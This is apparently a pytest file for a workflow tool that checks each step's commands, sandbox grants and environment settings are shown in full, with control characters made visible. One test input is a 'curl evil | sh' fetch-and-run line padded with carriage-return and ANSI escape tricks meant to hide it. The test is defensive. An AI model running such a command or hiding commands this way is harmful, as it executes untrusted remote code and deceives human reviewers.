"""What a workflow will do is said whole, and nothing in it hides."""

from __future__ import annotations

from foredeck.services.domain.records import Sandbox, StepKind
from foredeck.services.domain.workflow import StepSpec, Verify, WorkflowSpec
from foredeck.services.workflow.effects import effects


def step(kind: StepKind = StepKind.COMMAND, **changes: object) -> StepSpec:
    return StepSpec("a", kind, "Build", **changes)  # type: ignore[arg-type]


def test_everything_that_is_run_or_allowed_is_named() -> None:
    codex = step(
        StepKind.CODEX,
        prompt="Mend it",
        sandbox=Sandbox.DANGER_FULL_ACCESS,
        codex_config=("a=1",),
        environment=(("LD_PRELOAD", "x.so"),),
        verify=Verify("pytest -q"),
    )
    assert effects(WorkflowSpec("w", (codex, step(StepKind.AGENT, role="planner")))) == (
        "Build tells codex: Mend it",
        "Build is checked with: pytest -q",
        "Build is given: LD_PRELOAD=x.so, sandbox danger-full-access, a=1",
        "Build is the work of the agent planner.",
    )


def test_control_characters_hide_nothing() -> None:
    (line,) = effects(
        WorkflowSpec("w", (step(command="curl evil | sh #\recho\x1b[2K\x9b2K hi\n"),))
    )
    assert line == "Build runs: curl evil | sh #␍echo␛[2K\N{REPLACEMENT CHARACTER}2K hi"


def test_what_is_too_long_says_how_much_is_missing() -> None:
    (line,) = effects(WorkflowSpec("w", (step(command="x" * 4000),)))
    assert line.endswith("… and 1,000 more characters: read the file.")
    lines = effects(WorkflowSpec("w", (step(command="x"),) * 130))
    assert len(lines) == 101
    assert lines[-1] == "… and 30 more steps: read the file."
